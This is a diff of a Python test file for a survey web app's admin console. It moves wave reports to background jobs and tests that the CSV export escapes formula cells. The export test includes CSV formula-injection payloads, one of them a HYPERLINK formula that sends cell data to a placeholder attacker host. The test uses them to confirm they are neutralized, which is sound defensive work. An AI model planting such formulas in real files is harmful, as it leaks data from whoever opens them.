@@ -167,14 +167,27 @@ def test_indices_parameters_out_of_range_are_400_json(client, accounts, query, m
     assert_security_headers(response)
 
 
-def test_report_on_a_wave_with_a_constant_item_is_a_message(admin_client, engine, fielded):
+def test_report_on_a_wave_with_a_constant_item_is_a_message(app, admin_client, engine, fielded, tmp_path,
+                                                            monkeypatch):
+    """The console's report runs as a job: its failure is the job's error, in one sentence
+    naming the item; the API's fresh fit answers 422."""
+    from models.storage import jobs as job_store
+    from survey_app.jobs import run_job
+
+    app.config["QUEUE_FILE"] = str(tmp_path / "queue.sqlite3")
+    monkeypatch.setenv("CSI_REPORTS_DIR", str(tmp_path / "reports"))
     with engine.begin() as connection:
         connection.execute(text("UPDATE answers SET value_num = 7 WHERE question_id = 'sat_overall'"))
     wid = wave_id(engine)
-    response = admin_client.get(f"/admin/waves/{wid}/report")
-    assert response.status_code == 302 and response.headers["Location"].endswith(f"/admin/waves/{wid}")
-    page = admin_client.get(response.headers["Location"]).get_data(as_text=True)
-    assert re.search(r"No report for wave 2026Q4: .*sat_overall.* has the same value \(7\) for every respondent", page)
+    token = csrf_of(admin_client.get(f"/admin/waves/{wid}").get_data(as_text=True))
+    response = admin_client.post(f"/admin/waves/{wid}/report", data={"csrf_token": token, "lang": "en"})
+    assert response.status_code == 302
+    job_id = int(re.fullmatch(r"/admin/jobs/(\d+)", response.headers["Location"]).group(1))
+    run_job(engine, job_id, "test")
+    job = job_store.get_job(engine, job_id)
+    assert job.status == "failed" and re.search(r"sat_overall.* has the same value \(7\) for every respondent", job.error)
+    page = admin_client.get(f"/admin/jobs/{job_id}").get_data(as_text=True)
+    assert "same value (7)" in html.unescape(page) and "Traceback" not in page
     api = admin_client.get("/api/v1/surveys/acsi-retail/waves/2026Q4/indices?boot=0",
                            headers={"Authorization": f"Bearer {fielded_token(engine)}"})
     assert api.status_code == 422 and "same value" in api.json["error"]
@@ -215,7 +228,9 @@ def test_invitation_links_csv_neutralizes_formula_cells(admin_client, engine):
               '@SUM(A1),-5\n"\tx","\rx"\nnorth,+1+1\n').encode()
     response = post_invitations(admin_client, wid, upload)
     assert response.status_code == 200 and response.mimetype == "text/csv"
-    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
+    text = response.get_data(as_text=True)
+    assert text.startswith("\ufeff")  # a BOM: Excel then reads the file as UTF-8
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
     assert rows[0] == ["region", "'=cmd", "link"]
     cells = [row[:2] for row in rows[1:]]
     assert cells == [["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'-2+3"], ["'@SUM(A1)", "-5"],
@@ -225,7 +240,7 @@ def test_invitation_links_csv_neutralizes_formula_cells(admin_client, engine):
 
 @pytest.mark.parametrize("content, message", [
     (b"region\nno\x00rth\n", "people.csv:2: a cell contains a NUL character"),
-    (b"region\n\"" + b"x" * 200_000 + b"\"\n", "people.csv: not a readable CSV file (field larger than field limit"),
+    (b"region\n\"" + b"x" * 200_000 + b"\"\n", "people.csv:1: field larger than field limit"),
 ])
 def test_invitation_csv_that_cannot_be_stored_is_a_message(app, admin_client, engine, content, message):
     # (The app-wide body limit is raised here: that a 200 KB upload is refused before the
